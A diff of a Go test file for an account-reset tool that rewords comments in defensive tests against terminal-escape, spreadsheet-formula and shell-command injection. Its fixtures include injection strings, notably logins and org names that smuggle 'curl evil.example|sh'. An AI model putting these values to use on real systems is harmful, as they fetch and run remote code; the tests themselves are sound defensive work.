@@ -23,12 +23,13 @@ import (
 	"oktareset/runner/results"
 )
 
-// wantHarmless fails the test if a text holds what a terminal would act on, or the org's token.
+// wantHarmless fails the test if a text contains the org's token, or a character that a terminal
+// would act on.
 func (v *virtual) wantHarmless(what, text string) {
 	v.t.Helper()
 	for _, r := range text {
 		if r != '\n' && r != ' ' && !unicode.IsPrint(r) {
-			v.t.Errorf("%s holds %U:\n%.2000q", what, r, text)
+			v.t.Errorf("%s contains %U:\n%.2000q", what, r, text)
 			return
 		}
 	}
@@ -37,8 +38,8 @@ func (v *virtual) wantHarmless(what, text string) {
 	}
 }
 
-// Cells that aim at another path, another user, a terminal or a spreadsheet: whoever isn't
-// named isn't reset, nothing else is asked for, and what is printed and written does nothing.
+// Cells aim at another path, another user, a terminal or a spreadsheet. Nobody is reset whom the
+// input doesn't name, no other request is sent, and the output does nothing.
 func TestHostileCells(t *testing.T) {
 	virtually(t, 3, standin.Config{}, func(v *virtual) {
 		cells := []string{
@@ -85,10 +86,10 @@ func TestHostileCells(t *testing.T) {
 	})
 }
 
-// evil is what an org, or who answers in its place, may write into every text.
+// evil is what an org, or a stranger in its place, may write into every text.
 const evil = "\x1b]0;x\a\u202e\u009b31m\r=1+1;=1<b>$(id)`id`"
 
-// poison writes evil into every text of a reply but IDs and links, and echoes the credentials.
+// poison writes evil into every text of a reply except IDs and links, and echoes the credentials.
 func poison(r *http.Request, next http.RoundTripper) (*http.Response, error) {
 	resp, err := next.RoundTrip(r)
 	if err != nil {
@@ -217,7 +218,7 @@ func (v *virtual) onTerminalIn(ctx context.Context, args ...string) (string, int
 	return stdout.String(), fault.Code(err)
 }
 
-// A login that a user chose isn't a part of the command that a message proposes.
+// A login that a user chose doesn't become a part of the command that a message proposes.
 func TestProposedCommandsAreQuoted(t *testing.T) {
 	const login = "`curl${IFS}evil.example|sh`@example.com"
 	org := standin.New(standin.Config{})
@@ -243,8 +244,9 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 	}
 }
 
-// A page proposes a command made of a file that somebody else may have made: no text of it is more
-// than one word, none becomes a flag, and none sends the credentials to another org.
+// A page proposes a command from a file that somebody else may have made. No text of the file is
+// more than one word of the command, none becomes a flag, and none sends the credentials to another
+// org.
 func TestProposedPlanIsQuoted(t *testing.T) {
 	m := results.Manifest{
 		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []results.Run{{}},
